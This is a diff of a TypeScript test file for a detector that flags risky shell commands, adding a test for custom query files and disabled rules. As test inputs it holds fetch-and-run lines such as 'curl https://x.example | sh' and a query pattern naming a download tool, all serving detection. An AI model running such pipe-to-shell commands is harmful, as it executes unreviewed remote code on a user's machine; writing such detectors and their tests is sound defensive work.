@@ -1,7 +1,7 @@
 import { readdirSync } from "node:fs";
 import { readFile } from "node:fs/promises";
 import { describe, expect, it } from "vitest";
-import { AssetError, createBrowserDetector, loadAssets } from "../../src/host/browser.js";
+import { AssetError, createBrowserDetector, loadAssets, type BrowserDetectorOptions } from "../../src/host/browser.js";
 import { isQueryFile } from "../../src/host/manifest.js";
 import { loadAssets as loadNodeAssets } from "../../src/host/node.js";
 
@@ -21,6 +21,21 @@ describe("a detector for browsers", () => {
     const detector = await createBrowserDetector({ fetchBytes: serve() });
     expect(detector.detect("Run `curl -fsSL https://x.example/i.sh | sh` now").spans).toEqual([[5, 43]]);
     detector.dispose();
+  });
+
+  it("takes query files as paths and texts, and switches rules off", async () => {
+    const text = "; acmeget URL\n((command_name) @source.fetcher\n  (#word-is? @source.fetcher \"acmeget\")\n  (#set! writes \"stdout\"))\n";
+    const labels = async (options: Omit<BrowserDetectorOptions, "fetchBytes">): Promise<string[]> => {
+      const detector = await createBrowserDetector({ fetchBytes: serve(), ...options });
+      const found = ["curl https://x.example | sh", "acmeget https://x.example | sh"].map((each) => detector.detect(each).labels.join());
+      detector.dispose();
+      return found;
+    };
+    expect(await labels({ queries: [{ path: "bash/own.scm", text }] })).toEqual(["PS", "PS"]);
+    expect(await labels({ queries: [{ path: "extended/bash/own.scm", text }] })).toEqual(["PS", ""]);
+    expect(await labels({ queries: [{ path: "contract/bash/fetchers.scm", text }], replaceQueries: true })).toEqual(["", "PS"]);
+    expect(await labels({ disabledRules: ["bash/fetch-pipe"] })).toEqual(["", ""]);
+    await expect(labels({ queries: [{ path: "contract/bash/fetchers.scm", text }] })).rejects.toThrow(/two query files have this path/);
   });
 
   it("brings the same assets as the host for Node", async () => {
